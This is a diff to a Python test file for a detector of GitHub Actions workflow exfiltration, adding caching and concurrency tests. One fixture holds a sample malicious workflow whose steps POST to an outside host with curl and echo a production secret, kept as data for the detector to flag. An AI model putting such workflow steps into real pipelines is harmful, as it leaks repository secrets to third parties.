@@ -1,13 +1,17 @@
-import base64
+import asyncio
+import binascii
 
 import pytest
 
-from app.signals.workflow_exfiltration import FetchBudget, detect_ghostaction_risk
+from app.signals.workflow_exfiltration import FetchBudget, _get_workflow_text, detect_ghostaction_risk
 
 class DummyGitHub:
     def __init__(self, commit_files, contents_map, user=None, permission=None):
         self._commit_files = commit_files
-        self._contents_map = contents_map
+        # path -> ref -> blob
+        self._contents = {}
+        for (path, ref), blob in contents_map.items():
+            self._contents.setdefault(path, {})[ref] = blob
         self._user = user or {
             "type": "User",
             "created_at": "2020-01-01T00:00:00Z",
@@ -21,7 +25,7 @@ class DummyGitHub:
         return {"files": self._commit_files}
 
     async def get_contents(self, owner, repo, path, ref=None):
-        return self._contents_map[(path, ref)]
+        return self._contents[path][ref]
 
     async def get_user(self, login):
         return self._user
@@ -52,7 +56,7 @@ async def test_ghostaction_risk_emits_incident():
             run: curl -X POST https://bold-dhawan.45-139-104-115.plesk.page/collect
           - run: echo ${{ secrets.PROD_KEY }}
     """
-    encoded = base64.b64encode(text.encode("utf-8")).decode("utf-8")
+    encoded = binascii.b2a_base64(text.encode("utf-8"), newline=False).decode("ascii")
     contents = {
         (".github/workflows/ci.yml", "abc123"): {
             "encoding": "base64",
@@ -78,7 +82,7 @@ async def test_ghostaction_risk_benign_returns_none():
         steps:
           - run: echo "hello"
     """
-    encoded = base64.b64encode(text.encode("utf-8")).decode("utf-8")
+    encoded = binascii.b2a_base64(text.encode("utf-8"), newline=False).decode("ascii")
     contents = {
         (".github/workflows/ci.yml", "abc123"): {
             "encoding": "base64",
@@ -90,3 +94,49 @@ async def test_ghostaction_risk_benign_returns_none():
 
     incidents = await detect_ghostaction_risk(_event(), gh, budget)
     assert incidents == []
+
+@pytest.mark.asyncio
+async def test_workflow_text_fetched_once_per_budget():
+    encoded = binascii.b2a_base64(b"on: push\n", newline=False).decode("ascii")
+    contents = {(".github/workflows/ci.yml", "abc123"): {"encoding": "base64", "content": encoded}}
+    calls = []
+
+    class CountingGitHub(DummyGitHub):
+        async def get_contents(self, owner, repo, path, ref=None):
+            calls.append((path, ref))
+            await asyncio.sleep(0)
+            return await super().get_contents(owner, repo, path, ref=ref)
+
+    gh = CountingGitHub([], contents)
+    budget = FetchBudget(5)
+    texts = await asyncio.gather(*[
+        _get_workflow_text(gh, "org", "repo", ".github/workflows/ci.yml", "abc123", budget)
+        for _ in range(3)
+    ])
+    assert texts == ["on: push\n"] * 3
+    assert len(calls) == 1
+    assert budget.remaining == 4
+
+@pytest.mark.asyncio
+async def test_ghostaction_fetches_workflows_concurrently():
+    encoded = binascii.b2a_base64(b"on: push\n", newline=False).decode("ascii")
+    paths = [f".github/workflows/w{i}.yml" for i in range(3)]
+    contents = {(p, "abc123"): {"encoding": "base64", "content": encoded} for p in paths}
+    in_flight = 0
+    peak = 0
+
+    class SlowGitHub(DummyGitHub):
+        async def get_contents(self, owner, repo, path, ref=None):
+            nonlocal in_flight, peak
+            in_flight += 1
+            peak = max(peak, in_flight)
+            await asyncio.sleep(0.01)
+            in_flight -= 1
+            return await super().get_contents(owner, repo, path, ref=ref)
+
+    gh = SlowGitHub([{"filename": p} for p in paths], contents)
+    budget = FetchBudget(10)
+
+    assert await detect_ghostaction_risk(_event(), gh, budget) == []
+    assert peak == 3
+    assert budget.remaining == 10 - 1 - 3